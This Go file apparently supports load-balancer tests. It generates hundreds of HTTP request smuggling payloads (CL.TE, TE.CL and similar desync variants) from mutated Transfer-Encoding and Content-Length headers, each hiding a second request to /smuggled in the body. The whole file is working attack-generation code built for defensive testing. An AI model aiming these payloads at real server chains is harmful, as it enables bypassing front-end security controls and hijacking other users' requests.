package lbtest

import (
	"fmt"
	"strings"
)

// SmuggledPath is the target of the request that every Attack hides in a body.
const SmuggledPath = "/smuggled"

// Attack is a request that makes two servers disagree on where it ends, if one of them reads a field of
// its head otherwise than the other. It is complete whichever field is believed.
type Attack struct {
	Name string // the family, the mutation and what else the head says
	head string // without the request line
	body string
	// ByLength and ByChunks are the body, if the proper field of the head or the mutated one says so;
	// empty for what neither can say.
	ByLength, ByChunks string
	// Closes means that the request has Connection: close: whatever follows it
	// is not to be read as a request by anybody.
	Closes bool
}

// Raw returns the bytes to send, a POST to that target.
func (a Attack) Raw(target string) string {
	return "POST " + target + " HTTP/1.1\r\n" + a.head + "\r\n" + a.body
}

// gadget is a field that is meant to be seen by one server and overlooked by another.
type gadget struct{ name, lines string }

const smuggledRequest = "GET " + SmuggledPath + " HTTP/1.1\r\nHost: test\r\n\r\n"

// Attacks returns the mutations of Transfer-Encoding and Content-Length that are known from attacks on
// chains of servers, each before and behind a proper field, of the other kind and, for lengths, of its own.
func Attacks() []Attack {
	var attacks []Attack
	chunks := "1\r\nZ\r\n0\r\n\r\n"
	inChunk := fmt.Sprintf("%x\r\n%s\r\n0\r\n\r\n", len(smuggledRequest), smuggledRequest)
	sizeLine := inChunk[:strings.Index(inChunk, "\n")+1]
	add := func(name, gadget, proper, body, byLength, byChunks string) {
		for i, fields := range []string{gadget + "\r\n" + proper, proper + gadget + "\r\n"} {
			a := Attack{Name: name, head: "Host: test\r\n" + fields, body: body, ByLength: byLength, ByChunks: byChunks, Closes: i == 0}
			if a.Closes {
				a.Name += ", first and closing"
				a.head = fields + "Connection: close\r\nHost: test\r\n"
			}
			attacks = append(attacks, a)
		}
	}
	length := func(body string) string { return fmt.Sprintf("Content-Length: %d\r\n", len(body)) }
	for _, g := range gadgets("Transfer-Encoding", "chunked") {
		add("CL.TE "+g.name, g.lines, length(chunks+smuggledRequest), chunks+smuggledRequest, chunks+smuggledRequest, "Z")
		add("TE.CL "+g.name, g.lines, length(sizeLine), inChunk, sizeLine, smuggledRequest)
		add("TE alone "+g.name, g.lines, "", chunks+smuggledRequest, "", "Z")
	}
	for _, g := range append(gadgets("Content-Length", "5"), lengths()...) {
		add("TE and "+g.name, g.lines, "Transfer-Encoding: chunked\r\n", chunks+smuggledRequest, "", "Z")
		add("CL and "+g.name, g.lines, "Content-Length: 0\r\n", smuggledRequest, "", "")
	}
	return attacks
}

// gadgets returns the mutations of a field by its family.
func gadgets(name, value string) []gadget {
	all := append(spelt(name, value), withBytes(name, value)...)
	for i := range all {
		all[i].name = name + " " + all[i].name
	}
	return all
}

// spelt are the mutations that have one form each.
func spelt(name, value string) []gadget {
	first, second, _ := strings.Cut(name, "-")
	middle := len(value) / 2
	return []gadget{
		{"as it should be", name + ": " + value},
		{"no space", name + ":" + value},
		{"two spaces", name + ":  " + value},
		{"tabs around the colon", name + "\t:\t" + value},
		{"tab before the name", "\t" + name + ": " + value},
		{"name in two words", first + " " + second + ": " + value},
		{"name in two words, no space", first + " " + second + ":" + value},
		{"underscore", first + "_" + second + ": " + value},
		{"name in one word", first + second + ": " + value},
		{"CR in the name", first + "\r-" + second + ": " + value},
		{"LF in the name", first + "\n-" + second + ": " + value},
		{"NUL in the name", first + "\x00-" + second + ": " + value},
		{"accent in the name", first[:3] + "\x82" + first[4:] + "-" + second + ": " + value},
		{"accent in UTF-8", first[:3] + "é" + first[4:] + "-" + second + ": " + value},
		{"no colon", name + " " + value},
		{"two colons", name + ":: " + value},
		{"upper case", strings.ToUpper(name + ": " + value)},
		{"lower case", strings.ToLower(name + ": " + value)},
		{"mixed case", mixed(name) + ": " + mixed(value)},
		{"x before the name", "X-" + name + ": " + value},
		{"x before the value", name + ": x" + value},
		{"cut value", name + ": " + value[:middle]},
		{"longer value", name + ": " + value + "s"},
		{"accent in the value", name + ": " + value[:middle] + "\x96" + value[middle:]},
		{"space in the value", name + ": " + value[:middle] + " " + value[middle:]},
		{"empty value", name + ":"},
		{"double quotes", name + ": \"" + value + "\""},
		{"single quotes", name + ": '" + value + "'"},
		{"brackets", name + ": [" + value + "]"},
		{"parameter", name + ": " + value + ";q=1"},
		{"comment", name + ": " + value + " (yes)"},
		{"list, other first", name + ": cow, " + value},
		{"list, other last", name + ": " + value + ", cow"},
		{"list, identity first", name + ": identity, " + value},
		{"list, identity last", name + ": " + value + ", identity"},
		{"list of two", name + ": " + value + ", " + value},
		{"list, tight", name + ": " + value + "," + value},
		{"comma first", name + ": ," + value},
		{"comma last", name + ": " + value + ","},
		{"words around", name + ": cow " + value + " bar"},
		{"twice", name + ": " + value + "\r\n" + name + ": " + value},
		{"twice, other first", name + ": cow\r\n" + name + ": " + value},
		{"twice, other last", name + ": " + value + "\r\n" + name + ": cow"},
		{"twice, identity last", name + ": " + value + "\r\n" + name + ": identity"},
		{"twice, empty first", name + ":\r\n" + name + ": " + value},
		{"twice, underscore last", name + ": " + value + "\r\n" + first + "_" + second + ": " + value},
		{"wrapped by LF and space", name + ":\n " + value},
		{"wrapped by CRLF and space", name + ":\r\n " + value},
		{"wrapped by CRLF and tab", name + ":\r\n\t" + value},
		{"wrapped behind the value", name + ": " + value + "\r\n cow"},
		{"wrapped empty", name + ": " + value + "\r\n "},
		{"wrapped before the colon", name + "\r\n : " + value},
		{"hidden in a wrapped line", "X: 1\r\n " + name + ": " + value},
		{"behind a bare CR", "X: 1\r" + name + ": " + value},
		{"behind a bare LF", "X: 1\n" + name + ": " + value},
		{"behind LF CR", "X: 1\n\r" + name + ": " + value},
		{"behind CR CR LF", "X: 1\r\r\n" + name + ": " + value},
		{"bare CR at the end", name + ": " + value + "\r"},
		{"named by Connection", "Connection: " + name + "\r\n" + name + ": " + value},
		{"of the content", "Content-Encoding: " + value},
		{"taken by TE", "TE: " + value},
		{"in a line that ends the head", "X: 1\n\n" + name + ": " + value},
		{"behind a line without a name", ": 1\r\n" + name + ": " + value},
	}
}

// withBytes are the mutations that put a byte at one or two places of the field, or use it to
// hang the field on another line: all control bytes, the space, DEL and all above.
func withBytes(name, value string) []gadget {
	var all []gadget
	for c := range 256 {
		if c > ' ' && c < 0x7f {
			continue
		}
		b := string([]byte{byte(c)})
		for _, g := range []gadget{
			{"before the name", b + name + ": " + value},
			{"behind the name", name + b + ": " + value},
			{"before the value", name + ":" + b + value},
			{"behind the value", name + ": " + value + b},
			{"around the name", b + name + b + ": " + value},
			{"before name and value", b + name + ":" + b + value},
			{"before and behind all", b + name + ": " + value + b},
			{"around the colon", name + b + ":" + b + value},
			{"behind name and value", name + b + ": " + value + b},
			{"around the value", name + ":" + b + value + b},
			{"instead of a line end before", "X: X" + b + name + ": " + value},
			{"instead of a line end behind", name + ": " + value + b + "X: X"},
			{"behind CR, before the name", "X: X\r" + b + name + ": " + value},
			{"before LF, before the name", "X: X" + b + "\n" + name + ": " + value},
			{"behind CR, behind the value", name + ": " + value + "\r" + b + "X: X"},
			{"before LF, behind the value", name + ": " + value + b + "\nX: X"},
			{"instead of the colon", name + b + value},
			{"instead of the dash", strings.Replace(name, "-", b, 1) + ": " + value},
		} {
			all = append(all, gadget{fmt.Sprintf("%s, 0x%02x", g.name, c), g.lines})
		}
	}
	return all
}

// lengths are numbers that some readers of a Content-Length take for 5.
func lengths() []gadget {
	var all []gadget
	for _, value := range []string{"+5", "-5", "05", "0000000000000000000005", "0x5", "5.0", "5e0", "5_", "5 5", "5,5", "5, 6", "5;a", "4294967301",
		"18446744073709551621", "99999999999999999999", "\u0665", "five", "5\x005", "0\x0b5"} {
		all = append(all, gadget{fmt.Sprintf("Content-Length: %q", value), "Content-Length: " + value})
	}
	return all
}

func mixed(s string) string {
	b := []byte(strings.ToLower(s))
	for i := 0; i < len(b); i += 2 {
		b[i] = strings.ToUpper(string(b[i]))[0]
	}
	return string(b)
}
